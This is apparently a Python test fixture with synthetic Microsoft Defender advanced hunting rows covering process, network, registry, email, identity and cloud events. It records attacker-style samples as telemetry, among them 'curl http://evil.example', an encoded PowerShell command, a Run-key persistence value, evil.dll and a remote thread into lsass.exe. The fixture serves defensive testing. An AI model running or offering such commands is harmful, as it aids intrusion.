"""Rows of advanced hunting tables as the streaming API sends them: `properties` holds the row."""

from __future__ import annotations

from typing import Any

from tests.examples._base import RESOURCE, SUBSCRIPTION

IDENTITY = ("properties.DeviceId", "properties.ReportId", "properties.Timestamp")
VERSION = ()
RESOLVED = None

TENANT = "22222222-0000-4000-8000-000000000002"
DEVICE = "d" * 40
ALERT = "dafeedfacefeedface_1700000001"
MESSAGE = "eeeeeeee-1111-4222-8333-444455556666"
_ALICE = "bbbbbbbb-0000-4000-8000-00000000000b"
_READER = "cccccccc-0000-4000-8000-00000000000c"
_SENDER = {
    "SenderFromAddress": "offers@mail.example.net",
    "SenderMailFromAddress": "bounce@mail.example.net",
    "SenderDisplayName": "Great Offers",
    "SenderObjectId": "",
    "SenderIPv4": "198.51.100.25",
    "SenderIPv6": "2001:db8::25",
}
_ACCOUNT = {
    "AccountName": "mallory",
    "AccountDomain": "corp",
    "AccountSid": "S-1-5-21-1-2-3-1105",
    "AccountUpn": "mallory@example.com",
    "AccountObjectId": "aaaaaaaa-0000-4000-8000-00000000000a",
    "AccountDisplayName": "Mallory Example",
}


def initiating(**overrides: Any) -> dict[str, Any]:
    """The columns of the process that did it."""
    columns: dict[str, Any] = {
        "AccountName": "mallory",
        "AccountDomain": "corp",
        "AccountSid": "S-1-5-21-1-2-3-1105",
        "AccountUpn": "mallory@example.com",
        "AccountObjectId": "aaaaaaaa-0000-4000-8000-00000000000a",
        "FileName": "PowerShell.exe",
        "FolderPath": "c:\\windows\\system32\\powershell.exe",
        "SHA1": "a" * 40,
        "SHA256": "a" * 64,
        "MD5": "a" * 32,
        "Id": 4711,
        "CommandLine": "powershell.exe -enc AAAA",
        "ParentId": 815,
        "ParentFileName": "explorer.exe",
        "IntegrityLevel": "High",
    }
    return {f"InitiatingProcess{name}": value for name, value in (columns | overrides).items()}


def row(table: str, **columns: Any) -> dict[str, Any]:
    return {
        "time": "2026-03-04T10:25:00.1234567Z",
        "tenantId": TENANT,
        "operationName": "Publish",
        "category": f"AdvancedHunting-{table}",
        "_TimeReceivedBySvc": "2026-03-04T10:24:30.1234567Z",
        "properties": {"Timestamp": "2026-03-04T10:20:00.7654321Z"} | columns,
        "Tenant": "DefaultTenant",
    }


def on_device(table: str, **columns: Any) -> dict[str, Any]:
    named = {"DeviceId": DEVICE, "DeviceName": "pc-7.corp.example", "ReportId": 42}
    return row(table, **named, **columns)


def record(**overrides: Any) -> dict[str, Any]:
    return (
        on_device(
            "DeviceProcessEvents",
            ActionType="ProcessCreated",
            MachineGroup="Workstations",
            FileName="whoami.exe",
            FolderPath="C:\\Windows\\System32\\whoami.exe",
            SHA1="b" * 40,
            SHA256="b" * 64,
            MD5="b" * 32,
            FileSize=73728,
            ProcessId=4712,
            ProcessCommandLine="whoami /all",
            ProcessIntegrityLevel="High",
            AccountName="mallory",
            AccountDomain="corp",
            AccountSid="S-1-5-21-1-2-3-1105",
            AccountUpn="mallory@example.com",
            AccountObjectId="aaaaaaaa-0000-4000-8000-00000000000a",
            LogonId=999,
            AdditionalFields='{"ProcessPosixSessionId":7}',
            **initiating(),
        )
        | overrides
    )


def evidence(kind: str, additional: Any, **columns: Any) -> dict[str, Any]:
    return row(
        "AlertEvidence",
        AlertId=ALERT,
        Title="Suspicious discovery",
        Severity="Medium",
        Categories='["Discovery"]',
        AttackTechniques='["System Owner/User Discovery (T1033)","PowerShell (T1059.001)"]',
        ServiceSource="Microsoft Defender for Endpoint",
        DetectionSource="EDR",
        EntityType=kind,
        EvidenceRole="Impacted",
        AdditionalFields=additional,
        **columns,
    )


TABLES: dict[str, dict[str, Any]] = {
    "AlertInfo": row(
        "AlertInfo",
        AlertId=ALERT,
        Title="Suspicious discovery",
        Category="Discovery",
        Severity="Medium",
        ServiceSource="Microsoft Defender for Endpoint",
        DetectionSource="EDR",
        AttackTechniques='["System Owner/User Discovery (T1033)","PowerShell (T1059.001)"]',
    ),
    "AlertEvidence": evidence(
        "Machine",
        '{"HostName":"pc-7","DnsDomain":"corp.example","Type":"host","MachineId":"' + DEVICE + '"}',
        DeviceId=DEVICE,
        DeviceName="pc-7.corp.example",
    ),
    "DeviceProcessEvents": record(),
    "DeviceNetworkEvents": on_device(
        "DeviceNetworkEvents",
        ActionType="ConnectionSuccess",
        LocalIP="10.0.0.7",
        LocalPort=50123,
        RemoteIP="203.0.113.80",
        RemotePort=443,
        RemoteUrl="cdn.example.net",
        Protocol="TcpV4",
        AdditionalFields="",
        **initiating(),
    ),
    "DeviceFileEvents": on_device(
        "DeviceFileEvents",
        ActionType="FileRenamed",
        FileName="invoice.pdf.exe",
        FolderPath="C:\\Users\\mallory\\invoice.pdf.exe",
        PreviousFileName="invoice.pdf",
        PreviousFolderPath="C:\\Users\\mallory",
        SHA1="c" * 40,
        FileOriginUrl="https://cdn.example.net/invoice.zip",
        FileOriginIP="203.0.113.80",
        RequestProtocol="SMB",
        RequestSourceIP="10.0.0.9",
        RequestAccountName="eve",
        RequestAccountDomain="corp",
        **initiating(),
    ),
    "DeviceImageLoadEvents": on_device(
        "DeviceImageLoadEvents",
        ActionType="ImageLoaded",
        FileName="evil.dll",
        FolderPath="C:\\Temp\\evil.dll",
        SHA256="d" * 64,
        **initiating(),
    ),
    "DeviceRegistryEvents": on_device(
        "DeviceRegistryEvents",
        ActionType="RegistryValueSet",
        RegistryKey="HKEY_CURRENT_USER\\Software\\Run",
        RegistryValueName="Updater",
        RegistryValueData="evil.exe",
        RegistryValueType="String",
        PreviousRegistryKey="HKEY_CURRENT_USER\\Software\\Old",
        **initiating(),
    ),
    "DeviceLogonEvents": on_device(
        "DeviceLogonEvents",
        ActionType="LogonFailed",
        LogonType="Network",
        AccountName="administrator",
        AccountDomain="corp",
        RemoteIP="10.0.0.66",
        RemotePort=50999,
        RemoteDeviceName="kiosk-2",
        FailureReason="InvalidUserNameOrPassword",
        Protocol="NTLM",
        **initiating(
            AccountName="system", AccountUpn="", AccountObjectId="", AccountSid="S-1-5-18"
        ),
    ),
    "DeviceEvents": on_device(
        "DeviceEvents",
        ActionType="CreateRemoteThreadApiCall",
        FileName="lsass.exe",
        FolderPath="C:\\Windows\\System32",
        ProcessId=640,
        AccountName="system",
        AccountDomain="nt authority",
        AccountSid="S-1-5-18",
        AdditionalFields={"ClientMachine": "kiosk-2"},
        **initiating(RemoteSessionDeviceName="jump-1", RemoteSessionIP="10.0.0.33"),
    ),
    "DeviceInfo": on_device(
        "DeviceInfo",
        OSPlatform="Windows11",
        PublicIP="203.0.113.7",
        LoggedOnUsers='[{"UserName":"mallory","DomainName":"CORP","Sid":"S-1-5-21-1-2-3-1105"}]',
    ),
    "DeviceNetworkInfo": on_device(
        "DeviceNetworkInfo",
        MacAddress="02:00:00:00:00:07",
        IPAddresses='[{"IPAddress":"10.0.0.7","SubnetPrefix":24},{"IPAddress":"999.0.0.1"}]',
        DnsAddresses='["10.0.0.1"]',
        DefaultGateways="[null]",
    ),
    "DeviceFileCertificateInfo": on_device(
        "DeviceFileCertificateInfo",
        SHA1="e" * 40,
        Signer="Example Corp",
        SignerHash="f" * 40,
        CrlDistributionPointUrls='["http://crl.example.com/1.crl"]',
    ),
    "EmailEvents": row(
        "EmailEvents",
        ReportId=f"{MESSAGE}-1",
        NetworkMessageId=MESSAGE,
        InternetMessageId="<1@mail.example.net>",
        Subject="Your invoice",
        RecipientEmailAddress="alice@example.com",
        RecipientObjectId=_ALICE,
        DeliveryAction="Delivered",
        EmailDirection="Inbound",
        **_SENDER,
    ),
    "EmailAttachmentInfo": row(
        "EmailAttachmentInfo",
        ReportId=f"{MESSAGE}-1",
        NetworkMessageId=MESSAGE,
        FileName="invoice.zip",
        SHA256="9" * 64,
        ThreatNames="Trojan_ZIP,Phish",
        RecipientEmailAddress="alice@example.com",
    ),
    "EmailUrlInfo": row(
        "EmailUrlInfo",
        ReportId=f"{MESSAGE}-1",
        NetworkMessageId=MESSAGE,
        Url="https://login.example.net/?x=1",
        UrlDomain="login.example.net",
    ),
    "EmailPostDeliveryEvents": row(
        "EmailPostDeliveryEvents",
        ReportId=f"{MESSAGE}-2",
        NetworkMessageId=MESSAGE,
        ActionType="Phish ZAP",
        ActionResult="Success",
        RecipientEmailAddress="alice@example.com",
    ),
    "UrlClickEvents": row(
        "UrlClickEvents",
        ReportId="cccccccc-1111-4222-8333-444455556666",
        ActionType="ClickAllowed",
        AccountUpn="alice@example.com",
        IPAddress="203.0.113.9",
        Url="https://login.example.net/?x=1",
        UrlChain='["https://t.example.org/1","https://login.example.net/?x=1"]',
        NetworkMessageId=MESSAGE,
    ),
    "MessageEvents": row(
        "MessageEvents",
        ReportId="dddddddd-1111-4222-8333-444455556666",
        TeamsMessageId="/chats/1/messages/2",
        SenderEmailAddress="alice@example.com",
        SenderObjectId=_ALICE,
        SenderDisplayName="Alice Example",
        RecipientDetails=[
            {"RecipientSmtpAddress": "bob@example.com", "RecipientDisplayName": "Bob", "x": 1}
        ],
        DeliveryAction="Delivered",
    ),
    "IdentityLogonEvents": row(
        "IdentityLogonEvents",
        ReportId="11111111-1111-4222-8333-444455556666",
        ActionType="LogonSuccess",
        LogonType="Resource access",
        Protocol="Kerberos",
        DeviceName="pc-7.corp.example",
        IPAddress="10.0.0.7",
        Port=50123,
        DestinationDeviceName="dc-1.corp.example",
        DestinationIPAddress="10.0.0.1",
        DestinationPort=88,
        TargetDeviceName="files-1.corp.example",
        TargetAccountUpn="svc-files@example.com",
        Application="Active Directory",
        AdditionalFields={
            "Category": "Credential Access",
            "AttackTechniques": "Kerberoasting (T1558.003)",
            "FROM.DEVICE": "PC-7",
        },
        **_ACCOUNT,
    ),
    "IdentityQueryEvents": row(
        "IdentityQueryEvents",
        ReportId="22222222-1111-4222-8333-444455556666",
        ActionType="DNS query",
        QueryTarget="internal.corp.example",
        IPAddress="::ffff:10.0.0.7",
        DestinationDeviceName="dc-1.corp.example",
    ),
    "IdentityInfo": row(
        "IdentityInfo",
        ReportId="33333333-1111-4222-8333-444455556666",
        Department="Finance",
        **_ACCOUNT,
    ),
    "CloudAppEvents": row(
        "CloudAppEvents",
        ReportId="7_20893_44444444-1111-4222-8333-444455556666",
        ActionType="MailItemsAccessed",
        Application="Microsoft Exchange Online",
        ApplicationId=20893,
        AccountType="Application",
        AccountDisplayName="Mail Reader",
        AccountId=_READER,
        IPAddress="203.0.113.9",
        ActivityObjects=[
            {"Type": "Account", "Role": "Actor", "Name": "Mail Reader", "Id": _READER},
            {"Type": "User", "Role": "Parameter", "Name": "Alice Example", "Id": _ALICE},
            {"Type": "File", "Role": "Target object", "Name": "https://x.example/a.doc", "Id": "7"},
            {"Type": "Team", "Role": "Target object", "Name": "Sales", "Id": "8"},
            {"Type": "IP address", "Role": "Parameter", "Name": "203.0.113.10"},
            {"Type": "Service", "Role": "Target object", "Name": "Box", "Id": "9"},
            {"Type": "Inbox rule", "Role": "Target object", "Name": "Hide", "Id": "10"},
            {"Type": "Task", "Role": "Target object", "Name": "MailItemsAccessed"},
        ],
        RawEventData={
            "Workload": "Exchange",
            "Operation": "MailItemsAccessed",
            "ResultStatus": "Succeeded",
            "UserId": "alice@example.com",
            "UserKey": _ALICE,
            "MailboxOwnerUPN": "alice@example.com",
            "InvestigationId": "urn:investigation:1",
            "Data": '{"InvestigationIds":["urn:investigation:2"],"Entities":'
            '[{"$id":"1","Type":"url","Url":"https://found.example"}]}',
        },
    ),
    "CloudProcessEvents": row(
        "CloudProcessEvents",
        ReportId="55555555-1111-4222-8333-444455556666",
        ActionType="ProcessCreated",
        AzureResourceId=RESOURCE,
        ContainerName="web",
        ContainerId="0123abcd",
        KubernetesResource="shop/pod/web-1",
        FileName="/usr/bin/curl",
        FolderPath="/usr/bin/curl",
        ProcessName="curl",
        ProcessId=31,
        ProcessCommandLine="curl http://evil.example",
        ParentProcessName="sh",
        ParentProcessId=30,
        AccountName="root",
    ),
    "CloudAuditEvents": row(
        "CloudAuditEvents",
        ReportId="66666666-1111-4222-8333-444455556666",
        ActionType="Delete",
        OperationName="Microsoft.Compute/virtualMachines/delete",
        ResourceId=RESOURCE,
        IPAddress="203.0.113.9",
    ),
    "CloudStorageAggregatedEvents": row(
        "CloudStorageAggregatedEvents",
        ReportId="77777777-1111-4222-8333-444455556666",
        ActionType="Data Aggregation",
        SubscriptionId=SUBSCRIPTION.upper(),
        StorageAccount="shopdata",
        IPAddress="203.0.113.9",
        DataAggregationStartTime="2026-03-04T09:00:00Z",
        DataAggregationEndTime="2026-03-04T10:00:00Z",
    ),
    "AADSignInEventsBeta": row(
        "AADSignInEventsBeta",
        ReportId="88888888-1111-4222-8333-444455556666",
        AccountUpn="alice@example.com",
        IPAddress="203.0.113.9",
        Application="Azure Portal",
        ApplicationId="dddddddd-0000-4000-8000-00000000000d",
        ErrorCode=50126,
        CorrelationId="99999999-1111-4222-8333-444455556666",
    ),
    "AADSpnSignInEventsBeta": row(
        "AADSpnSignInEventsBeta",
        ReportId="99999999-1111-4222-8333-444455556666",
        ServicePrincipalName="deployer",
        ServicePrincipalId="eeeeeeee-0000-4000-8000-00000000000e",
        ErrorCode=0,
    ),
    "BehaviorInfo": row(
        "BehaviorInfo",
        BehaviorId="behavior-1",
        ActionType="ImpossibleTravelActivity",
        Description="Two continents within minutes",
        Categories='["InitialAccess","SuspiciousActivity"]',
        AttackTechniques='["Valid Accounts (T1078)"]',
        StartTime="2026-03-04T09:00:00Z",
        EndTime="2026-03-04T10:00:00Z",
        ServiceSource="Microsoft Defender for Cloud Apps",
    ),
}
"""One row of each of many tables, by the table."""
